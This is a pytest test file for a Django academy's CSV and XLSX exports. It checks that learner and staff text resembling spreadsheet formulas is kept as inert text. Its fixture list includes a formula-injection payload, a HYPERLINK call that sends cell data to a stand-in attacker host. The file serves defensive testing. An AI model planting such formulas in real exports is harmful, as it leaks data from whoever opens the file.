"""Downloads of the academy's records: formula-looking text never runs as a formula."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from academy.models import Sector, SelfAssessment
from tests.academy.factories import (
    AssessmentWindowFactory,
    CohortFactory,
    CohortMembershipFactory,
    LearnerFactory,
    RatingFactory,
    ReflectionFactory,
    SelfAssessmentFactory,
)
from tests.curriculum.factories import (
    CompetencyFactory,
    DomainFactory,
    LessonPageFactory,
    ModulePageFactory,
)

pytestmark = pytest.mark.django_db

# What a learner or staff member might type that a spreadsheet would run.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
    "+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
]


def csv_rows(response) -> list[dict]:
    content = (
        b"".join(response.streaming_content) if response.streaming else response.content
    )
    return list(csv.DictReader(io.StringIO(content.decode(), newline="")))


def xlsx_rows(response) -> list[dict]:
    """Rows of cells (not values), so a test can see a cell's type."""
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    header, *rows = workbook.active.iter_rows()
    names = [cell.value for cell in header]
    return [dict(zip(names, row, strict=True)) for row in rows]


def as_xml_keeps_it(text: str) -> str:
    """XML reads a bare carriage return back as a line feed."""
    return text.replace("\r", "\n")


def test_my_assessment_history_csv_quotes_notes_that_look_like_formulas(
    client, learner, framework, django_assert_max_num_queries
):
    domain = DomainFactory(framework=framework, code="SP", name="Shared purpose")
    assessment = SelfAssessmentFactory(user=learner, framework=framework)
    for n, text in enumerate(FORMULAS):
        RatingFactory(
            assessment=assessment,
            competency=CompetencyFactory(domain=domain, code=f"SP.{n}", name=text),
            level=2,
            note=text,
        )
    RatingFactory(
        assessment=assessment,
        competency=CompetencyFactory(domain=domain, code="SP.9", name="Trust"),
        level=None,
        note="Mended a rift",
    )
    SelfAssessment.objects.filter(pk=assessment.pk).update(submitted_at=timezone.now())
    client.force_login(learner)

    with django_assert_max_num_queries(5):
        response = client.get(reverse("academy:assessment-export-csv"))

    rows = {row["code"]: row for row in csv_rows(response)}
    for n, text in enumerate(FORMULAS):
        assert rows[f"SP.{n}"]["note"] == "'" + text
        assert rows[f"SP.{n}"]["competency"] == "'" + text
        assert rows[f"SP.{n}"]["level"] == "2"
    assert rows["SP.9"]["note"] == "Mended a rift"
    assert rows["SP.9"]["competency"] == "Trust"
    assert rows["SP.9"]["level"] == ""
    assert rows["SP.9"]["domain"] == "Shared purpose"


def test_my_reflection_journal_csv_quotes_reflections_that_look_like_formulas(
    client, learner, curriculum_index, django_assert_max_num_queries
):
    module = ModulePageFactory(parent=curriculum_index, title="Trust")
    lesson = LessonPageFactory(parent=module, title="=Trust as infrastructure")
    for text in FORMULAS:
        ReflectionFactory(user=learner, lesson=lesson, text=text)
    ReflectionFactory(user=learner, lesson=lesson, text="Trust takes time, and pay.")
    client.force_login(learner)

    with django_assert_max_num_queries(5):
        response = client.get(reverse("academy:journal-export-csv"))

    rows = csv_rows(response)
    assert sorted(row["reflection"] for row in rows) == sorted(
        ["Trust takes time, and pay.", *("'" + text for text in FORMULAS)]
    )
    assert {row["lesson"] for row in rows} == {"'=Trust as infrastructure"}
    assert all(row["updated"][:4].isdigit() for row in rows)


def test_the_cohort_progress_report_keeps_formula_looking_names_as_text(
    client, staff, django_assert_max_num_queries
):
    cohort = CohortFactory(name="Winter 2026")
    for n, text in enumerate(FORMULAS):
        member = LearnerFactory(
            email=f"member{n}@example.org",
            first_name=text,
            last_name="",
            profile__organization=text,
        )
        CohortMembershipFactory(cohort=cohort, user=member)
    plain = LearnerFactory(
        email="plain@example.org",
        first_name="Lena",
        last_name="Park",
        profile__organization="Salish Health Board",
    )
    CohortMembershipFactory(cohort=cohort, user=plain)
    client.force_login(staff)
    url = reverse("academy_cohorts:report", args=[cohort.pk])

    with django_assert_max_num_queries(8):
        response = client.get(url, {"export": "csv"})

    rows = {row["Email"]: row for row in csv_rows(response)}
    for n, text in enumerate(FORMULAS):
        row = rows[f"member{n}@example.org"]
        assert (row["Name"], row["Organization"]) == ("'" + text, "'" + text)
        assert row["Modules enrolled"] == "0"
    assert rows["plain@example.org"]["Name"] == "Lena Park"
    assert rows["plain@example.org"]["Organization"] == "Salish Health Board"

    cells = {
        row["Email"].value: row
        for row in xlsx_rows(client.get(url, {"export": "xlsx"}))
    }
    for n, text in enumerate(FORMULAS):
        row = cells[f"member{n}@example.org"]
        for cell in (row["Name"], row["Organization"]):
            assert (cell.data_type, cell.value) == ("s", as_xml_keeps_it(text))
        assert (row["Modules enrolled"].data_type, row["Modules enrolled"].value) == (
            "n",
            0,
        )


@pytest.fixture
def falling_cohort(framework):
    """Five state-agency members who each rated every competency 3, then 2."""
    domain = DomainFactory(framework=framework, code="-SP", name="Shared purpose")
    competencies = [
        CompetencyFactory(domain=domain, code="", name=text) for text in FORMULAS
    ]
    cohort = CohortFactory(name="Winter 2026")
    windows = [
        AssessmentWindowFactory(cohort=cohort, kind=kind)
        for kind in ("baseline", "exit")
    ]
    for _ in range(5):
        member = LearnerFactory(profile__sector=Sector.STATE_AGENCY)
        CohortMembershipFactory(cohort=cohort, user=member)
        for window, level in zip(windows, (3, 2), strict=True):
            SelfAssessmentFactory(
                user=member,
                framework=framework,
                window=window,
                levels=dict.fromkeys(competencies, level),
                submitted=True,
            )
    return cohort


def test_the_growth_report_quotes_formula_looking_names_but_a_fall_stays_a_number(
    client, staff, falling_cohort, django_assert_max_num_queries
):
    client.force_login(staff)
    choice = {"cohort": falling_cohort.pk, "from_kind": "baseline", "to_kind": "exit"}

    with django_assert_max_num_queries(11):
        response = client.get(
            reverse("academy_cohort_growth"), {**choice, "export": "csv"}
        )

    rows = [r for r in csv_rows(response) if r["Sector group"] == "Public agency"]
    # The report trims each "code name"; what is left still starts like a formula.
    assert sorted(r["Competency"] for r in rows if r["Level"] == "Competency") == (
        sorted("'" + text.strip() for text in FORMULAS)
    )
    assert {r["Domain"] for r in rows} == {"'-SP Shared purpose"}
    assert {(r["Learners"], r["Mean change"]) for r in rows} == {("5", "-1.0")}

    cells = xlsx_rows(
        client.get(reverse("academy_cohort_growth"), {**choice, "export": "xlsx"})
    )
    competency_cells = [
        r["Competency"] for r in cells if r["Level"].value == "Competency"
    ]
    assert {c.data_type for c in competency_cells} == {"s"}
    assert {c.value for c in competency_cells} == {t.strip() for t in FORMULAS}
    assert {(r["Mean change"].data_type, r["Mean change"].value) for r in cells} >= {
        ("n", -1.0)
    }


def test_text_that_reads_like_a_spreadsheet_error_stays_text_in_the_xlsx(client, staff):
    cohort = CohortFactory(name="Winter 2026")
    for n, organization in enumerate(["#N/A", "#REF!", "=1"]):
        member = LearnerFactory(
            email=f"member{n}@example.org", profile__organization=organization
        )
        CohortMembershipFactory(cohort=cohort, user=member)
    client.force_login(staff)

    response = client.get(
        reverse("academy_cohorts:report", args=[cohort.pk]), {"export": "xlsx"}
    )

    organizations = [row["Organization"] for row in xlsx_rows(response)]
    assert sorted((c.data_type, c.value) for c in organizations) == [
        ("s", "#N/A"),
        ("s", "#REF!"),
        ("s", "=1"),
    ]
